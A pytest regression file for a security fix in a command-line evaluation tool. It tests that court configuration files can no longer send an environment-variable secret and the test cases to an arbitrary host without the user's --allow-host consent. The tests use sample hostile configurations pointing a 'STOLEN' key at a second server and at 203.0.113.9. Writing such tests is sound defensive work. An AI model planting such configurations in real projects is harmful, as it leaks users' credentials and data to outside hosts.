"""Attack (#50, high): a court file chose both the host and the credential. A `trial.models` seat `{model, url,
api_key_env}` made `courtroom run` send the value of any environment variable to any URL (and, without
`api_key_env`, the key meant for `--model-url`), then the cases with every trial call. Now a seat's host needs the
user's `--allow-host`, a key goes only to the host it was named for, `run` names every host it calls before the
first request, and `court validate` / `court show` flag the seats that call out. Two real servers on 127.0.0.1."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from typer.testing import CliRunner

from courtroom.cli import app
from courtroom.door.http_client import origin
from tests.helpers.fake_openai import MODEL, FakeServer, fake_server

ENV = {"COLUMNS": "1000", "RUN_KEY": "run-secret", "STOLEN": "stolen-secret", "OPENAI_API_KEY": "openai-secret"}
ROW = {"id": "a", "question": "When was it automated?", "context": ["It was automated in 1962."],
       "answer": "It was automated in 1926.", "label": "FAIL"}


@pytest.fixture
def servers() -> Iterator[tuple[FakeServer, FakeServer]]:
    """The user's server (`--model-url`) and the host a court file names."""
    with fake_server() as mine, fake_server() as theirs:
        yield mine, theirs


def court(tmp_path: Path, seat: dict) -> Path:
    path = tmp_path / "court.yaml"
    path.write_text(f"name: seated\nextends: full\ntrial:\n  models:\n    judge: {json.dumps(seat)}\n")
    return path


def run(tmp_path: Path, mine: FakeServer, court_file: Path, *extra: str) -> tuple[int, str]:
    data = tmp_path / "cases.jsonl"
    data.write_text(json.dumps(ROW) + "\n")
    result = CliRunner().invoke(app, ["run", str(data), "--court", str(court_file), "--model", MODEL, "--model-url",
                                      mine.url, "--api-key-env", "RUN_KEY", "--out", str(tmp_path / "run"), *extra],
                                env=ENV)
    assert "Traceback" not in result.output
    return result.exit_code, " ".join(result.output.split())


def test_without_consent_nothing_reaches_the_courts_host_and_no_key_leaves(
        servers: tuple[FakeServer, FakeServer], tmp_path: Path) -> None:
    mine, theirs = servers
    code, output = run(tmp_path, mine, court(tmp_path, {"model": MODEL, "url": theirs.url, "api_key_env": "STOLEN"}))
    assert code != 0 and f"--allow-host {origin(theirs.url)}=STOLEN" in output
    assert theirs.requests == [] and theirs.keys == []  # not even the probe
    assert mine.keys == []  # refused before any request: nothing went anywhere
    assert "stolen-secret" not in output


def test_a_seat_without_a_key_variable_no_longer_gets_the_runs_key(
        servers: tuple[FakeServer, FakeServer], tmp_path: Path) -> None:
    mine, theirs = servers
    seat = court(tmp_path, {"model": MODEL, "url": theirs.url})
    code, output = run(tmp_path, mine, seat)
    assert code != 0 and f"--allow-host {origin(theirs.url)}" in output and theirs.keys == []
    code, output = run(tmp_path, mine, seat, "--allow-host", origin(theirs.url), "--fresh")
    assert theirs.keys and set(theirs.keys) == {None}  # called, with the cases the user consented to, and no key
    assert set(mine.keys) == {"Bearer run-secret"}


def test_with_consent_run_names_the_host_first_and_each_key_goes_to_its_own_host(
        servers: tuple[FakeServer, FakeServer], tmp_path: Path) -> None:
    mine, theirs = servers
    code, output = run(tmp_path, mine, court(tmp_path, {"model": MODEL, "url": theirs.url, "api_key_env": "STOLEN"}),
                       "--allow-host", f"{theirs.url}=STOLEN")
    named = output.index(f"calls {origin(mine.url)}")
    assert f"{origin(theirs.url)} (seat {MODEL}@{theirs.url}: model {MODEL}, with the key in $STOLEN)" in output
    assert named < output.index("judging") if "judging" in output else named >= 0
    assert theirs.keys and set(theirs.keys) == {"Bearer stolen-secret"}
    assert mine.keys and set(mine.keys) == {"Bearer run-secret"}


def test_a_key_granted_for_one_variable_is_not_a_grant_for_another(
        servers: tuple[FakeServer, FakeServer], tmp_path: Path) -> None:
    mine, theirs = servers
    code, output = run(tmp_path, mine, court(tmp_path, {"model": MODEL, "url": theirs.url, "api_key_env": "STOLEN"}),
                       "--allow-host", origin(theirs.url))  # the host, without its key
    assert code != 0 and "$STOLEN" in output and theirs.keys == [] and mine.keys == []


def test_a_seat_on_the_users_own_host_needs_no_consent_and_takes_the_runs_key(
        servers: tuple[FakeServer, FakeServer], tmp_path: Path) -> None:
    mine, _ = servers
    run(tmp_path, mine, court(tmp_path, {"model": MODEL, "url": mine.url + "/"}))
    assert mine.keys and set(mine.keys) == {"Bearer run-secret"}
    mine.keys.clear()
    code, output = run(tmp_path, mine, court(tmp_path, {"model": MODEL, "url": mine.url, "api_key_env": "STOLEN"}),
                       "--fresh")  # the user's host, but another variable than the one named for it
    assert code != 0 and "--allow-host" in output and mine.keys == []


def test_court_validate_and_show_flag_the_seats_that_call_out(tmp_path: Path) -> None:
    seat = court(tmp_path, {"model": "m", "url": "http://203.0.113.9:8000/v1", "api_key_env": "STOLEN"})
    for verb in ("validate", "show"):
        result = CliRunner().invoke(app, ["court", verb, str(seat)], env=ENV)
        text = " ".join(result.output.split())
        assert result.exit_code == 0 and "calls out" in text and "http://203.0.113.9:8000/v1" in text
        assert "--allow-host http://203.0.113.9:8000=STOLEN" in text
    plain = CliRunner().invoke(app, ["court", "validate", "full"], env=ENV)
    assert "calls out" not in plain.output
